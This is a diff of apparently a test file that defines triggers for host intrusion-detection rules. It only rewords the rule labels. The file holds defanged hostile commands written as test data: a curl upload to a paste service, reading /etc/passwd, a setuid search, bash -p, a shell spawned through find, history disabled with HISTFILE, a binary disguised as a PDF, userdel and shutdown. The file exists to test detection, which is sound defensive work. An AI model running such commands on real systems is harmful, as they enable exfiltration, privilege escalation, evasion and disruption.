@@ -6,16 +6,16 @@ from typing import Final
 from tests.support.triggers import Trigger
 
 NAMED: Final = (
-    ("Machine looked over by a tool", "whoami"),
+    ("Host surveyed by a tool", "whoami"),
     ("Text decoded on the host", "base64 -d"),
     ("Files encrypted by a tool", "ccrypt -e x"),
-    ("Traffic recorded by a sniffer", "tcpdump -i lo"),
-    ("Data sent to a service for messages or pastes", "curl -d x https://0x0.st"),
-    ("Account locked, opened or removed by hand", "userdel perch"),
-    ("Service ended by hand", "pkill cron"),
-    ("Machine stopped by hand", "shutdown -h now"),
-    ("Processor kept busy with nothing", "yes --help"),
-    ("Unit of systemd started for a moment", "systemd-run id"),
+    ("Network traffic captured", "tcpdump -i lo"),
+    ("Data sent to a messaging or paste service", "curl -d x https://0x0.st"),
+    ("Account locked, unlocked or removed by hand", "userdel perch"),
+    ("Service stopped by hand", "pkill cron"),
+    ("Host stopped by hand", "shutdown -h now"),
+    ("CPU kept busy on purpose", "yes --help"),
+    ("Transient systemd unit started", "systemd-run id"),
     ("Debugger attached to a process by hand", "gcore 1"),
 )
 """Rules, each with a command whose name and arguments are enough."""
@@ -41,13 +41,13 @@ TOOLS: Final = (
         {"proc.cmdline": re.compile("^(sh|cat|base64 -d /dev/null)$")},
     ),
     Trigger(
-        "Set-user-id programs searched for",
+        "Set-user-ID programs searched for",
         "find",
         ("setpriv", "--reuid=65534", "--clear-groups", "find", "/dev/null", "-perm", "-4000"),
     ),
-    _from_shell("Virtual machine looked for by hand", "dmidecode -s x"),
+    _from_shell("Virtual machine detected by hand", "dmidecode -s x"),
     _from_shell("Screen or clipboard read by a tool", "xwd -root"),
-    Trigger("Users and their rules read by a tool", "cat", "cat /etc/passwd", {"fd.name": "/etc/passwd"}),
+    Trigger("Users and sudo rules read by a tool", "cat", "cat /etc/passwd", {"fd.name": "/etc/passwd"}),
     Trigger(
         "Text decoded in the argument of an interpreter",
         "python3",
@@ -77,19 +77,19 @@ TOOLS: Final = (
         {"fd.name": "/usr/local/share/ca-certificates/perch.crt"},
     ),
     Trigger(
-        "Program or script in the guise of another file",
+        "Program or script disguised as another file",
         "report.pdf",
         "cp /bin/true $TMP/report.pdf; $TMP/report.pdf",
     ),
     Trigger(
-        "Shell started from within a program for something else",
+        "Shell started from within another program",
         re.compile("^(da)?sh$"),
         ("find", "$TMP", "-maxdepth", "0", "-exec", "sh", ";"),
         {"proc.pname": "find"},
     ),
-    Trigger("Shell keeps the rights of its file", "bash", ("bash", "-p", "-c", "true")),
+    Trigger("Shell that keeps set-user-ID rights", "bash", ("bash", "-p", "-c", "true")),
     Trigger(
-        "Secret opened to all users",
+        "Secret made accessible to all users",
         "chmod",
         (
             "unshare",
@@ -101,7 +101,7 @@ TOOLS: Final = (
         {"evt.arg.mode": re.compile("S_IROTH")},
     ),
     Trigger(
-        "Session that keeps no history",
+        "Session without command history",
         "true",
         "HISTFILE=/dev/null /bin/true; true",
         {"proc.env[HISTFILE]": "/dev/null"},
